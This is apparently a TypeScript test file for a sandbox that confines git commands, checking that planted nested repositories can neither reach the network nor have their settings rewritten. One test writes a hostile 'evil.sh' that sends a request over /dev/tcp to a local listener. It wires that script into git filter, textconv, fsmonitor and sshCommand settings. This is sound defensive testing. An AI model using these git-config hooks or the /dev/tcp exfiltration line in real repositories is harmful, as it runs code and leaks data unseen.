// Repositories inside the tree that git looks into when it looks at the whole: their settings get no network, and nobody's are rewritten.
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { works } from "../jobs/sandboxed.ts";
import { git, makeRepository } from "../worktrees/world.ts";
import { openCage } from "./cage.ts";

async function listen() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url!.replace(/\?.*/, ""));
    response.writeHead(404).end();
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => server.once("listening", resolve));
  onTestFinished(() => void server.close());
  return { asked, port: (server.address() as AddressInfo).port };
}

test.runIf(works)("a call with the network sees nothing of a repository that a script put into the tree", async () => {
  const { asked, port } = await listen();
  const { root, run, write } = openCage({ "home/.gitconfig": "[user]\n\tname = n\n\temail = e@x\n" });
  makeRepository(root);
  git(root, "remote", "add", "origin", `http://127.0.0.1:${port}/x.git`);
  write({
    "project/evil.sh": `#!/bin/bash\necho ran >> ${root}/ran\n(exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'GET /sent-away HTTP/1.0\\r\\n\\r\\n' >&3) 2> /dev/null\ncat\n`,
    "project/mk.sh": [
      "git init -q sub; cd sub; echo one > f; echo '* filter=evil diff=evil' > .gitattributes; git add -A; git commit -qm x",
      `git config filter.evil.clean ${root}/evil.sh; git config diff.evil.textconv ${root}/evil.sh; git config core.fsmonitor ${root}/evil.sh`,
      "git config core.sshCommand ../evil.sh; git remote add origin ssh://127.0.0.1/x; echo two > f",
    ].join("\n"),
  });
  const looks = [
    "git status --short",
    "git status --ignore-submodules=none",
    "git diff --submodule=diff",
    "git describe --dirty --always",
  ];
  const said = await run(
    [
      "bash mk.sh",
      "git add sub",
      "git status --short --ignore-submodules=none", // without the network it looks
      "rm -f ran",
      ...looks.map((look) => `${look}; git fetch origin`),
      "ls -A sub; git fetch origin",
      "git pull origin main",
    ],
    ...["--allowedTools", "Bash(git fetch *), Bash(git pull *)"],
  );
  expect(said[2], said.join("\n---\n")).toContain("Am sub\n?? evil.sh\n?? mk.sh\n?? ran");
  expect([existsSync(join(root, "ran")), new Set(asked)], said.join("\n---\n")).toEqual([
    false,
    new Set(["/x.git/info/refs"]), // the fetch itself had it
  ]);
});

test.runIf(works)(
  "a submodule is one however .gitmodules spells it, or when only the index knows it: no command gives it other settings",
  async () => {
    const names = ["line", "comment", "quoted", "linked"];
    const { root, run, write } = openCage({
      "project/.gitmodules": [
        '[submodule "line"] path = line',
        '[submodule "comment"]\n\tpath = comment # the library',
        '[submodule "quoted"]\n\turl = x\n\tPATH = "quo"t\\\ned ; x\n',
      ].join("\n"),
    });
    makeRepository(root);
    for (const name of names) {
      const lib = makeRepository(join(root, name), { f: "one\n" });
      git(root, "update-index", "--add", "--cacheinfo", `160000,${git(lib, "rev-parse", "HEAD")},${name}`);
    }
    git(root, "commit", "-qm", "libraries");
    // One in one of them.
    const inner = makeRepository(join(root, "linked/inner"), { f: "one\n" });
    git(
      join(root, "linked"),
      "update-index",
      "--add",
      "--cacheinfo",
      `160000,${git(inner, "rev-parse", "HEAD")},inner`,
    );
    names.unshift("linked/inner");
    mkdirSync(join(root, "free"));
    execFileSync("git", ["init", "-q", join(root, "free")]);
    const before = names.map((name) => readFileSync(join(root, name, ".git/config"), "utf8"));
    write({
      "project/try.sh": [...names, "free"]
        .map(
          (name) =>
            `git config -f ${name}/.git/config a.b c && echo ${name}-WRITTEN; mv ${name}/.git ${name}/g && echo ${name}-MOVED; mv ${name} ${name}2 && echo ${name}-AWAY`,
        )
        .join("\n"),
    });
    const [said] = await run(["bash try.sh 2> /dev/null"]);
    expect(said!.split("\n").filter((line) => /[A-Z]{4}/.test(line))).toEqual([
      "free-WRITTEN",
      "free-MOVED",
      "free-AWAY",
    ]);
    expect(names.map((name) => readFileSync(join(root, name, ".git/config"), "utf8"))).toEqual(before);
    writeFileSync(join(root, "line/f"), "two\n");
    expect(git(root, "status", "--porcelain")).toContain("line");
  },
);
